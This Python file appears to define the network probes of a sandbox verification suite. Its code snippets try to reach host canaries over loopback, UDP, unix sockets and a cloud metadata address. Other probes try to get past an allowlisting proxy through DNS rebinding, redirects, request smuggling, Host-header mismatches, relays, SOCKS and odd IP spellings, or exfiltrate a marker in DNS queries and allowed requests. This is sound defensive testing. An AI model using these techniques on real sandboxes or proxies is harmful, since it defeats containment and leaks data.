"""Network (M3): nothing leaves the sandbox except through the broker, and the
broker forwards only to allowlisted destinations.

Direct probes target host canaries: an HTTP service on loopback serving a
secret (the classic leak through a test interface), UDP and DNS listeners,
pathname and abstract unix sockets, and a canary network namespace joined to
the host by a veth pair (raw IP, UDP, ICMP "to the outside"). Broker probes
run with `--allow 127.0.0.1:<A>` and try to reach canary B anyway: plain
HTTP, CONNECT, DNS rebinding, redirects, request smuggling, address
spellings, a relay. With no proxy in the environment (the bare host) the
same probes go straight to B, which is what an unsandboxed process does.
Exfiltration inside allowed requests is allowed by policy and judged by the
journal (M9).
"""

from __future__ import annotations

from dataclasses import replace

from corral.verify.model import Probe
from corral.verify.oracles import AnyOf, ExfilJournaled, HitLogged, Reported, SecretSeen
from corral.verify.probes._dsl import code

__all__ = ["PROBES"]

_B = AnyOf((HitLogged(("http_b",)), SecretSeen(("http_b",))))
_B6 = AnyOf((HitLogged(("http_b6",)), SecretSeen(("http_b",))))
_ALLOW_A = ("{http_a_host}:{http_a_port}",)


def _direct() -> list[Probe]:
    return [
        Probe(
            "net-loopback-http",
            "network",
            "M3",
            "GET the secret from the host's loopback HTTP service (127.0.0.1) directly",
            code("""
              r, e = tcp("127.0.0.1", P["http_b_port"], b_req("127.0.0.1"))
              net_report("127.0.0.1", r, e)
              """),
            _B,
        ),
        Probe(
            "net-loopback-localhost",
            "network",
            "M3",
            "GET the secret from the host's loopback HTTP service by the name localhost",
            code("""
              r, e = tcp("localhost", P["http_b_port"], b_req("localhost"))
              net_report("localhost", r, e)
              """),
            _B,
        ),
        Probe(
            "net-loopback-hostname",
            "network",
            "M3",
            "GET the loopback secret through the machine's own hostname (resolves to loopback)",
            code("""
              r, e = tcp(P["name_b"], P["http_b_port"], b_req(P["name_b"]))
              net_report(P["name_b"], r, e)
              """),
            _B,
        ),
        Probe(
            "net-loopback-ipv6",
            "network",
            "M3",
            "GET the secret from the host's IPv6 loopback HTTP service ([::1])",
            code("""
              r, e = tcp("::1", P["http_b6_port"], b_req("[::1]"), family=socket.AF_INET6)
              net_report("[::1]", r, e)
              """),
            _B6,
        ),
        Probe(
            "net-loopback-v4mapped",
            "network",
            "M3",
            "GET the loopback secret through the IPv4-mapped IPv6 address ::ffff:127.0.0.1",
            code("""
              r, e = tcp("::ffff:127.0.0.1", P["http_b_port"], b_req("x"),
                         family=socket.AF_INET6)
              net_report("::ffff:127.0.0.1", r, e)
              """),
            _B,
        ),
        Probe(
            "net-loopback-udp",
            "network",
            "M3",
            "send a UDP datagram to the host's loopback UDP canary",
            code("""
              r, e = udp("127.0.0.1", P["udp_port"], MARKER.encode())
              net_report("udp", r, e)
              """),
            AnyOf((HitLogged(("udp",)), SecretSeen(("udp",)))),
        ),
        Probe(
            "net-loopback-udp6",
            "network",
            "M3",
            "send a UDP datagram to the host's IPv6 loopback UDP canary",
            code("""
              r, e = udp("::1", P["udp6_port"], MARKER.encode(), family=socket.AF_INET6)
              net_report("udp6", r, e)
              """),
            AnyOf((HitLogged(("udp6",)), SecretSeen(("udp",)))),
        ),
        Probe(
            "net-unix-tmp",
            "network",
            "M3",
            "connect to a host pathname unix socket under /tmp",
            code("""
              r, e = unix(P["unix_tmp"], MARKER.encode() + b"\\n")
              net_report("unix /tmp", r, e)
              """),
            AnyOf((HitLogged(("unix_tmp",)), SecretSeen(("unix",)))),
        ),
        Probe(
            "net-unix-run",
            "network",
            "M3",
            "connect to a host pathname unix socket under /run (docker.sock-like)",
            code("""
              r, e = unix(P["unix_run"], MARKER.encode() + b"\\n")
              net_report("unix /run", r, e)
              """),
            AnyOf((HitLogged(("unix_run",)), SecretSeen(("unix",)))),
        ),
        Probe(
            "net-unix-abstract",
            "network",
            "M3",
            "connect to a host abstract unix socket",
            code("""
              r, e = unix("\\0" + P["unix_abstract"], MARKER.encode() + b"\\n")
              net_report("abstract", r, e)
              """),
            AnyOf((HitLogged(("unix_abstract",)), SecretSeen(("unix",)))),
        ),
        Probe(
            "net-unix-via-proc-root",
            "network",
            "M3",
            "connect to the host /tmp unix socket through /proc/<host pid>/root",
            code("""
              path = "/proc/%d/root%s" % (P["victim_pid"], P["unix_tmp"])
              r, e = unix(path, MARKER.encode() + b"\\n")
              net_report("unix via /proc", r, e)
              """),
            AnyOf((HitLogged(("unix_tmp",)), SecretSeen(("unix",)))),
            uses=("victim_pid",),
        ),
        Probe(
            "net-raw-ip-tcp",
            "network",
            "M3",
            "open a TCP connection to an IP address outside the host (canary network namespace)",
            code("""
              r, e = tcp(P["netns_ip"], 81, b_req(P["netns_ip"]))
              net_report("tcp " + P["netns_ip"], r, e)
              """),
            AnyOf((HitLogged(("netns_tcp",)), SecretSeen(("netns",)))),
            uses=("netns_ip",),
        ),
        Probe(
            "net-raw-ip-udp",
            "network",
            "M3",
            "send UDP to an IP address outside the host (canary namespace)",
            code("""
              r, e = udp(P["netns_ip"], 9999, MARKER.encode())
              net_report("udp " + P["netns_ip"], r, e)
              """),
            AnyOf((HitLogged(("netns_udp",)), SecretSeen(("netns",)))),
            uses=("netns_ip",),
        ),
        Probe(
            "net-icmp-ping-socket",
            "network",
            "M3",
            "ping an outside address with an unprivileged ICMP socket, marker in the payload",
            code("""
              ok, err = ping(P["netns_ip"], raw=False)
              result(ok, error=err)
              """),
            HitLogged(("netns_icmp",)),
            uses=("netns_ip",),
            baseline="hosts whose ping_group_range sysctl excludes all groups refuse ping sockets",
        ),
        Probe(
            "net-icmp-raw",
            "network",
            "M3",
            "ping an outside address with a raw ICMP socket, marker in the payload",
            code("""
              ok, err = ping(P["netns_ip"], raw=True)
              result(ok, error=err)
              """),
            HitLogged(("netns_icmp",)),
            uses=("netns_ip",),
        ),
        Probe(
            "net-icmp-loopback",
            "network",
            "M3",
            "ping the host's loopback address (any ICMP socket), marker in the payload",
            code("""
              ok, err = ping("127.0.0.1")
              result(ok, error=err)
              """),
            HitLogged(("icmp_host",)),
            uses=("icmp_host",),
        ),
        Probe(
            "net-dns-udp",
            "network",
            "M3",
            "exfiltrate the marker in a DNS query (UDP) to a resolver on the host",
            code("""
              q = dns_query(MARKER + ".exfil.corral-verify.test")
              r, e = udp("127.0.0.1", P["dns_port"], q)
              net_report("dns/udp", r, e)
              """),
            HitLogged(("dns",)),
        ),
        Probe(
            "net-dns-tcp",
            "network",
            "M3",
            "exfiltrate the marker in a DNS query over TCP to a resolver on the host",
            code("""
              q = dns_query(MARKER + ".exfil.corral-verify.test")
              r, e = tcp("127.0.0.1", P["dns_port"], struct.pack("!H", len(q)) + q, timeout=1.5)
              net_report("dns/tcp", r, e)
              """),
            HitLogged(("dns",)),
        ),
        Probe(
            "net-dns-outside-resolver",
            "network",
            "M3",
            "send a DNS query to a resolver outside the host (the canary namespace, like 8.8.8.8)",
            code("""
              r, e = udp(P["netns_ip"], 53, dns_query(MARKER + ".exfil.corral-verify.test"))
              net_report("dns " + P["netns_ip"], r, e)
              """),
            HitLogged(("netns_dns",)),
            uses=("netns_ip",),
        ),
        Probe(
            "net-dns-system-resolver",
            "network",
            "M3",
            "query the resolv.conf nameserver (any answer means DNS left the sandbox)",
            code("""
              r, e = udp(P["nameserver"], 53, dns_query("example.com"))
              result(r is not None, error=e, bytes=len(r or b""))
              """),
            Reported(),
            uses=("nameserver",),
        ),
        Probe(
            "net-getaddrinfo",
            "network",
            "M3",
            "resolve a public name with getaddrinfo (the libc resolver path)",
            code("""
              try:
                  addrs = socket.getaddrinfo("pypi.org", 443)
                  result(bool(addrs), n=len(addrs))
              except OSError as e:
                  result(False, error=str(e))
              """),
            Reported(),
            baseline="needs a resolver that answers public names; this host may have none",
        ),
        Probe(
            "net-metadata",
            "network",
            "M3",
            "connect to the cloud metadata address 169.254.169.254:80 (no request sent)",
            code("""
              try:
                  s = socket.create_connection(("169.254.169.254", 80), timeout=1.5)
                  s.close()
                  result(True)
              except OSError as e:
                  result(False, errno=errname(e.errno) if e.errno else str(e))
              """),
            Reported(),
            baseline="only hosts with a metadata service (or a route to one) answer this address",
        ),
    ]


def _broker() -> list[Probe]:
    via = "broker"
    b_target = 'P["http_b_port"], "/secret/" + MARKER'
    out = [
        Probe(
            "net-broker-plain-http",
            "network",
            "M3",
            "plain HTTP GET of a non-allowlisted destination through the broker",
            code(f'''
              r, e = via_proxy_or_direct("127.0.0.1", {b_target})
              net_report("{via}", r, e)
              '''),
            _B,
        ),
        Probe(
            "net-broker-connect",
            "network",
            "M3",
            "CONNECT tunnel to a non-allowlisted destination through the broker",
            code("""
              r, e = connect_tunnel("127.0.0.1", P["http_b_port"], b_req("127.0.0.1"))
              net_report("connect", r, e)
              """),
            _B,
        ),
        Probe(
            "net-broker-connect-ipv6",
            "network",
            "M3",
            "CONNECT tunnel to the host's IPv6 loopback service through the broker",
            code("""
              r, e = connect_tunnel("::1", P["http_b6_port"], b_req("[::1]"))
              net_report("connect6", r, e)
              """),
            _B6,
        ),
        Probe(
            "net-broker-rebinding",
            "network",
            "M3",
            "GET through the broker an allowlisted name resolving to 127.0.0.1 (rebinding)",
            code("""
              r, e = via_proxy_or_direct(P["name_b"], P["http_b_port"], "/secret/" + MARKER)
              net_report("rebinding", r, e)
              """),
            _B,
            allow=("{name_b}:{http_b_port}",),
        ),
        Probe(
            "net-broker-rebinding-connect",
            "network",
            "M3",
            "CONNECT through the broker to an allowlisted name that resolves to 127.0.0.1",
            code("""
              r, e = connect_tunnel(P["name_b"], P["http_b_port"], b_req(P["name_b"]))
              net_report("rebinding connect", r, e)
              """),
            _B,
            allow=("{name_b}:{http_b_port}",),
        ),
        Probe(
            "net-broker-redirect",
            "network",
            "M3",
            "follow a redirect from the allowlisted destination to a forbidden one",
            code("""
              to = "http://127.0.0.1:%d/secret/%s" % (P["http_b_port"], MARKER)
              r, e = via_proxy_or_direct(P["http_a_host"], P["http_a_port"], "/redirect?to=" + to)
              loc = None
              for line in (r or b"").decode("latin-1").split("\\r\\n"):
                  if line.lower().startswith("location:"):
                      loc = line.split(":", 1)[1].strip()
              print("redirected to", loc)
              if loc:
                  from urllib.parse import urlsplit
                  u = urlsplit(loc)
                  r, e = via_proxy_or_direct(u.hostname, u.port, u.path)
              net_report("redirect", r, e)
              """),
            _B,
        ),
        Probe(
            "net-broker-keepalive-smuggle",
            "network",
            "M3",
            "pipeline a forbidden request behind an allowed one on one proxy connection",
            code("""
              px = proxy()
              if px:
                  a = "%s:%d" % (P["http_a_host"], P["http_a_port"])
                  b = "127.0.0.1:%d" % P["http_b_port"]
                  req1 = ("GET http://%s/ok HTTP/1.1\\r\\nHost: %s\\r\\n" % (a, a)).encode()
                  req1 += px[2] + b"\\r\\n"
                  req2 = http_req("http://%s/secret/%s" % (b, MARKER), b, px[2])
                  r, e = tcp(px[0], px[1], req1 + req2)
              else:
                  r, e = tcp("127.0.0.1", P["http_b_port"], b_req("127.0.0.1"))
              net_report("smuggle", r, e)
              """),
            _B,
        ),
        Probe(
            "net-broker-origin-form",
            "network",
            "M3",
            "send the proxy an origin-form request whose Host header names the forbidden service",
            code("""
              px = proxy()
              b = "127.0.0.1:%d" % P["http_b_port"]
              if px:
                  r, e = tcp(px[0], px[1], b_req(b, px[2]))
              else:
                  r, e = tcp("127.0.0.1", P["http_b_port"], b_req(b))
              net_report("origin-form", r, e)
              """),
            _B,
        ),
        Probe(
            "net-broker-host-mismatch",
            "network",
            "M3",
            "absolute URI of the allowed destination with a Host header naming the forbidden one",
            code("""
              px = proxy()
              b = "127.0.0.1:%d" % P["http_b_port"]
              if px:
                  url = "http://%s:%d/secret/%s" % (P["http_a_host"], P["http_a_port"], MARKER)
                  r, e = tcp(px[0], px[1], http_req(url, b, px[2]))
              else:
                  r, e = tcp("127.0.0.1", P["http_b_port"], b_req(b))
              net_report("host mismatch", r, e)
              """),
            _B,
        ),
        Probe(
            "net-broker-connect-host-mismatch",
            "network",
            "M3",
            "CONNECT naming the forbidden service with a Host header naming the allowed one",
            code("""
              px = proxy()
              if px:
                  s = socket.create_connection((px[0], px[1]), timeout=3)
                  s.sendall(("CONNECT 127.0.0.1:%d HTTP/1.1\\r\\nHost: %s:%d\\r\\n" % (
                      P["http_b_port"], P["http_a_host"], P["http_a_port"])).encode()
                      + px[2] + b"\\r\\n")
                  time.sleep(0.2)
                  s.sendall(b_req("127.0.0.1"))
                  s.settimeout(2)
                  try:
                      r, e = s.recv(65536), None
                  except OSError as x:
                      r, e = None, str(x)
              else:
                  r, e = tcp("127.0.0.1", P["http_b_port"], b_req("127.0.0.1"))
              net_report("connect host mismatch", r, e)
              """),
            _B,
        ),
        Probe(
            "net-broker-relay",
            "network",
            "M3",
            "relay a CONNECT for the forbidden service through a local relay inside the sandbox",
            code("""
              import threading
              px = proxy()
              up = (px[0], px[1]) if px else ("127.0.0.1", P["http_b_port"])
              srv = socket.socket()
              srv.bind(("127.0.0.1", 0))
              srv.listen(1)
              def pump(a, b):
                  try:
                      while True:
                          d = a.recv(65536)
                          if not d:
                              break
                          b.sendall(d)
                  except OSError:
                      pass
                  finally:
                      try:
                          b.shutdown(socket.SHUT_WR)
                      except OSError:
                          pass
              def relay():
                  c, _ = srv.accept()
                  try:
                      u = socket.create_connection(up, timeout=3)
                  except OSError:
                      c.close()
                      return
                  threading.Thread(target=pump, args=(c, u), daemon=True).start()
                  pump(u, c)
              threading.Thread(target=relay, daemon=True).start()
              port = srv.getsockname()[1]
              if px:
                  head = ("CONNECT 127.0.0.1:%d HTTP/1.1\\r\\nHost: 127.0.0.1:%d\\r\\n" % (
                      P["http_b_port"], P["http_b_port"])).encode() + px[2] + b"\\r\\n"
                  s = socket.create_connection(("127.0.0.1", port), timeout=3)
                  s.sendall(head)
                  time.sleep(0.2)
                  s.sendall(b_req("127.0.0.1"))
                  s.settimeout(2)
                  try:
                      r, e = s.recv(65536) + s.recv(65536), None
                  except OSError as x:
                      r, e = None, str(x)
              else:
                  r, e = tcp("127.0.0.1", port, b_req("127.0.0.1"))
              net_report("relay", r, e)
              """),
            _B,
        ),
        Probe(
            "net-broker-socks",
            "network",
            "M3",
            "reach the forbidden service through a SOCKS5 proxy named in the environment",
            code("""
              sp = None
              for k in ("ALL_PROXY", "all_proxy", "FTP_PROXY", "ftp_proxy"):
                  v = os.environ.get(k, "")
                  if v.startswith("socks5"):
                      from urllib.parse import urlsplit
                      sp = urlsplit(v)
                      break
              if sp is None:
                  r, e = tcp("127.0.0.1", P["http_b_port"], b_req("127.0.0.1"))
              else:
                  try:
                      s = socket.create_connection((sp.hostname, sp.port or 1080), timeout=3)
                      if sp.username:
                          s.sendall(b"\\x05\\x01\\x02")
                          s.recv(2)
                          from urllib.parse import unquote
                          u, pw = unquote(sp.username).encode(), unquote(sp.password or "").encode()
                          s.sendall(b"\\x01" + bytes([len(u)]) + u + bytes([len(pw)]) + pw)
                          s.recv(2)
                      else:
                          s.sendall(b"\\x05\\x01\\x00")
                          s.recv(2)
                      dst = socket.inet_aton("127.0.0.1") + struct.pack("!H", P["http_b_port"])
                      s.sendall(b"\\x05\\x01\\x00\\x01" + dst)
                      rep = s.recv(10)
                      s.sendall(b_req("127.0.0.1"))
                      s.settimeout(2)
                      r, e = s.recv(65536), None
                  except OSError as x:
                      r, e = None, str(x)
              net_report("socks", r, e)
              """),
            _B,
        ),
        Probe(
            "net-broker-connect-metadata",
            "network",
            "M3",
            "CONNECT through the broker to the cloud metadata address (no request sent)",
            code("""
              px = proxy()
              if px:
                  r, e = connect_tunnel("169.254.169.254", 80, b"")
                  result(e is None and r is not None, error=e)
              else:
                  try:
                      socket.create_connection(("169.254.169.254", 80), timeout=1.5).close()
                      result(True)
                  except OSError as x:
                      result(False, error=str(x))
              """),
            Reported(),
            baseline="only hosts with a metadata service (or a route to one) answer this address",
        ),
    ]
    for name, host_text in (
        ("decimal", "2130706433"),
        ("hex", "0x7f000001"),
        ("short", "127.1"),
        ("v4mapped", "[::ffff:127.0.0.1]"),
        ("zero-padded", "127.000.000.001"),
    ):
        out.append(
            Probe(
                f"net-broker-ip-{name}",
                "network",
                "M3",
                f"GET the forbidden service through the broker spelled as http://{host_text}:<port>/",
                code(f'''
            px = proxy()
            hh = "{host_text}:%d" % P["http_b_port"]
            if px:
                r, e = tcp(px[0], px[1], http_req("http://" + hh + "/secret/" + MARKER, hh, px[2]))
            else:
                h = "{host_text}".strip("[]")
                fam = socket.AF_INET6 if ":" in h else None
                if fam is None and h.count(".") == 3 and "0x" not in h:
                    h = ".".join(str(int(x)) for x in h.split("."))
                r, e = tcp(h, P["http_b_port"], b_req(hh), family=fam)
            net_report("{name}", r, e)
            '''),
                _B,
            )
        )
    return [replace(p, needs=frozenset({"broker"}), allow=p.allow or _ALLOW_A) for p in out]


def _exfil() -> list[Probe]:
    """Allowed requests that carry data out: must be journaled before they go."""
    variants = (
        ("query", '"/ok?d=" + MARKER', b'""', "in the query string"),
        ("path", '"/exfil/" + MARKER', b'""', "in the path"),
        ("header", '"/ok"', b'"X-Data: " + MARKER + "\\r\\n"', "in a request header"),
    )
    out = []
    for name, path_expr, extra_expr, where in variants:
        out.append(
            Probe(
                f"net-exfil-{name}",
                "network",
                "M9",
                f"send data {where} of an allowed request: allowed, but it must be journaled first",
                code(f"""
            px = proxy()
            path = {path_expr}
            extra = ({extra_expr.decode()}).encode()
            hh = "%s:%d" % (P["http_a_host"], P["http_a_port"])
            head = "GET %s HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n" % (
                ("http://" + hh + path) if px else path, hh)
            target = (px[0], px[1]) if px else (P["http_a_host"], P["http_a_port"])
            auth = px[2] if px else b""
            r, e = tcp(target[0], target[1], head.encode() + extra + auth + b"\\r\\n")
            net_report("exfil", r, e)
            """),
                ExfilJournaled("http_a"),
                allow=_ALLOW_A,
                needs=frozenset({"broker", "journal"}),
            )
        )
    return out


PROBES: list[Probe] = _direct() + _broker() + _exfil()
